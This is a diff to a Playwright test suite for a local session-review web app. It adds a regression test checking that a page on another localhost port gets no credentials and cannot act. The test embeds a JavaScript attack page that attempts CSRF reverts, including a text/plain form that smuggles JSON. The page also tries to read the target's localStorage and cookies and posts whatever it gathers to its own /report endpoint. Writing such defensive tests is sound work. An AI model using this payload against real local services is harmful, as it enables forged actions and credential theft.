@@ -7,9 +7,14 @@ import json
 import os
 import re
 import subprocess
+import threading
+import time
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import Any
 
+import httpx
 import pytest
 from bench.browser import WIDE, launch
 from playwright.sync_api import BrowserContext, Page, Playwright, expect, sync_playwright
@@ -59,9 +64,10 @@ def ready(page: Page) -> None:
 
 
 def open_page(page: Page, start_server: StartServer, home: Path, path: str) -> None:
-    """Serve ``home``, take the token's cookie, and open ``path`` once it is drawn."""
+    """Serve ``home``, log in with the printed address, and open ``path`` once it is drawn."""
     server = start_server(home)
     page.goto(server.url)
+    ready(page)
     page.goto(server.base + path)
     ready(page)
 
@@ -71,13 +77,17 @@ def test_without_the_token_the_page_is_refused(
 ) -> None:
     server = start_server(reviewed.home)
 
-    answer = page.goto(f"{server.base}/sessions/{reviewed.session}")
+    page.goto(f"{server.base}/sessions/{reviewed.session}")
+    ready(page)
 
-    assert answer is not None and answer.status == 401
     expect(page.locator("h1")).to_have_text("No access")
+    expect(page.locator("main")).to_contain_text("has no key")
     expect(page.locator("body")).not_to_contain_text("review me")
-    wrong = page.goto(f"{server.base}/?token=guessed")
-    assert wrong is not None and wrong.status == 403
+    page.goto(f"{server.base}/#token=guessed")
+    ready(page)
+    expect(page.locator("h1")).to_have_text("No access")
+    expect(page.locator("main")).to_contain_text("wrong token")
+    assert "guessed" not in page.url  # the token left the address
     shot(page, "refused")
 
 
@@ -310,3 +320,141 @@ def test_a_large_file_starts_collapsed_and_shows_a_chunk_at_a_time(
     big.get_by_role("button", name="Show more (101 lines left)").click()
     expect(big.locator("tr")).to_have_count(701)
     expect(big.get_by_role("button", name=re.compile("Show more"))).to_have_count(0)
+
+
+ATTACK = """<!doctype html><meta charset=utf-8><title>a dev server</title><body><script>
+const target = "TARGET", session = "SESSION", results = {};
+const revert = `${target}/api/sessions/${session}/revert`;
+(async () => {
+  try {  // a "simple" request: the browser sends it without asking, with its cookies
+    const r = await fetch(revert, { method: "POST", mode: "no-cors", credentials: "include",
+      headers: { "content-type": "text/plain" }, body: '{"to_turn": 0}' });
+    results.simple = r.type;
+  } catch (e) { results.simple = "blocked"; }
+  try {  // with the headers an action needs: only after a CORS preflight
+    const r = await fetch(`${target}/api/sessions/${session}/undo`, { method: "POST",
+      credentials: "include", headers: { "content-type": "application/json",
+      authorization: "Bearer guess", "x-turnback-csrf": "guess" }, body: "{}" });
+    results.preflighted = r.status;
+  } catch (e) { results.preflighted = "blocked"; }
+  try {
+    const r = await fetch(`${target}/api/sessions`, { credentials: "include" });
+    results.read = await r.text();
+  } catch (e) { results.read = "blocked"; }
+  try {
+    const w = window.open(`${target}/`);
+    await new Promise((resolve) => setTimeout(resolve, 1000));
+    results.popup = JSON.stringify(Object.assign({}, w.localStorage));
+    w.close();
+  } catch (e) { results.popup = "blocked"; }
+  results.storage = JSON.stringify(Object.assign({}, localStorage));
+  results.cookie = document.cookie;
+  await fetch("/report", { method: "POST", body: JSON.stringify(results) });
+  const form = Object.assign(document.createElement("form"),  // a top-level form POST
+    { method: "POST", action: revert, enctype: "text/plain" });
+  form.append(Object.assign(document.createElement("input"),
+    { name: '{"to_turn": 0, "x": "', value: '"}' }));
+  document.body.append(form);
+  form.submit();
+})();
+</script>"""
+
+
+class Sibling(ThreadingHTTPServer):
+    """Another local server on another port -- an agent's dev server, say: it serves a page
+    that tries to act on the review page, and keeps every request it receives."""
+
+    def __init__(self, page: str) -> None:
+        self.page = page
+        self.received: list[tuple[str, dict[str, str], bytes]] = []
+        self.reports: list[dict[str, Any]] = []
+        sibling = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args: object) -> None:
+                pass
+
+            def answer(self, body: bytes, kind: str = "text/html") -> None:
+                self.send_response(200)
+                self.send_header("content-type", kind)
+                self.send_header("content-length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def do_GET(self) -> None:
+                sibling.received.append((self.path, dict(self.headers), b""))
+                self.answer(sibling.page.encode())
+
+            def do_POST(self) -> None:
+                body = self.rfile.read(int(self.headers.get("content-length", 0)))
+                sibling.received.append((self.path, dict(self.headers), body))
+                if self.path == "/report":
+                    sibling.reports.append(json.loads(body))
+                self.answer(b"{}", "application/json")
+
+        super().__init__(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server_address[1]}"
+
+
+def test_another_local_server_the_browser_visits_gets_no_credential_and_cannot_act(
+    page: Page, reviewed: Reviewed, start_server: StartServer
+) -> None:
+    """Cookies ignore ports: a credential kept in one reached every server on 127.0.0.1, which
+    could read the anti-forgery secret from the page and revert (the bug). Now nothing the
+    browser sends another port carries a credential, and nothing that page does acts."""
+    server = start_server(reviewed.home)
+    page.goto(server.url)  # the user opens the review page: logged in
+    ready(page)
+    expect(page.locator("table.sessions tbody tr")).to_have_count(1)
+    port = server.base.rsplit(":", 1)[1]
+    key = str(page.evaluate("Object.values(localStorage).join(' ')"))
+    sibling = Sibling(
+        ATTACK.replace("TARGET", f"http://127.0.0.1:{port}").replace("SESSION", reviewed.session)
+    )
+    try:
+        attack = page.context.new_page()
+        attack.goto(sibling.url + "/")  # the same browser visits the other server
+        deadline = time.monotonic() + 30
+        while not sibling.reports and time.monotonic() < deadline:
+            time.sleep(0.1)
+        [report] = sibling.reports
+        attack.wait_for_url(re.compile(rf":{port}/api/"))  # the form went
+
+        # it received no credential
+        secrets_ = [server.token, *key.split()]
+        for path, headers, body in sibling.received:
+            lowered = {k.lower() for k in headers}
+            assert "cookie" not in lowered and "authorization" not in lowered, (path, headers)
+            sent = f"{path} {headers} {body!r}"
+            assert not any(s and s in sent for s in secrets_), sent
+        # its page could neither read nor act
+        assert report["preflighted"] == "blocked" and report["read"] == "blocked"
+        assert report["popup"] == "blocked" and report["cookie"] == ""
+        assert report["storage"] == "{}"
+        with turnback.open(reviewed.home) as tb:
+            assert tb.session(reviewed.session).reverts() == []
+        # and with everything it received, the server itself cannot act either
+        for _, headers, _ in sibling.received:
+            forwarded = {
+                k: v for k, v in headers.items() if k.lower() in ("cookie", "authorization")
+            }
+            html = httpx.get(f"{server.base}/", headers=forwarded).text
+            config = html.split('type="application/json">')[1].split("</script>")[0]
+            secret = next(iter(json.loads(config).values()), "")
+            acted = httpx.post(
+                f"{server.base}/api/sessions/{reviewed.session}/revert",
+                json={"to_turn": 0},
+                headers={**forwarded, "x-turnback-csrf": str(secret)},
+            )
+            assert acted.status_code in (401, 403), acted.text
+        with turnback.open(reviewed.home) as tb:
+            assert tb.session(reviewed.session).reverts() == []
+        assert (reviewed.workspace / "CHANGES.md").exists()
+        expect(attack.locator("body")).to_contain_text("another site or another port")
+    finally:
+        sibling.shutdown()
+        sibling.server_close()
